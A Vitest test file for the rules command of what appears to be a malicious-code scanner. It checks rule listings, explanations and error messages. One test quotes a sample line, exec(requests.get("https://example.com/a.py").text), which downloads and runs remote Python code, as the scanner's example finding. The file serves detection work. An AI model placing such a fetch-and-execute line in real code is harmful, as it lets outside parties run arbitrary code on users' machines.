import { describe, expect, it } from "vitest";
import { rulesCommand } from "../../../main/cli/rules-command.ts";
import type { Terminal } from "../../../main/cli/terminal.ts";
import { UsageError } from "../../../main/cli/usage-error.ts";
import { rules } from "../../../main/rules/registry.ts";

function run(id?: string): { status: number; text: string } {
	let text = "";
	const stdout = { write: (piece: string) => void (text += piece), isTerminal: false };
	const terminal: Terminal = {
		stdin: async () => new Uint8Array(),
		stdout,
		stderr: stdout,
		environment: {},
		folder: ".",
		signal: new AbortController().signal,
	};
	return { status: rulesCommand(id, terminal), text };
}

describe("rulesCommand", () => {
	it("lists every rule", () => {
		const { status, text } = run();
		expect(status).toBe(0);
		for (const rule of rules) expect(text).toContain(`  ${rule.id} `);
		expect(text).toContain(`${rules.length} rules`);
	});

	it("explains every rule in full", () => {
		for (const rule of rules) {
			const words = run(rule.id).text.replace(/\s+/g, " ");
			expect(words).toContain(rule.title);
			expect(words).toContain(rule.why.replace(/\s+/g, " "));
			expect(words).toContain(rule.lookalikes.replace(/\s+/g, " "));
			for (const technique of rule.attack) expect(words).toContain(`${technique} `);
			expect(words).toContain("How to silence a finding");
		}
	});

	it("shows an example, and what is said of it", () => {
		const { text } = run("execution-of-downloaded");
		expect(text).toContain("Found in specimen/__init__.py");
		expect(text).toContain('  exec(requests.get("https://example.com/a.py").text)\n');
		expect(text).toMatch(/It says, for example\n {2}- \S/);
	});

	it("says that there is no such rule, and which are alike", () => {
		expect(() => run("network\u001b")).toThrow(UsageError);
		expect(() => run("network\u001b")).toThrow(/no rule “network\\x1b”; did you mean .*network-at-install/);
		expect(() => run("zzz")).toThrow(/lists them all/);
	});
});
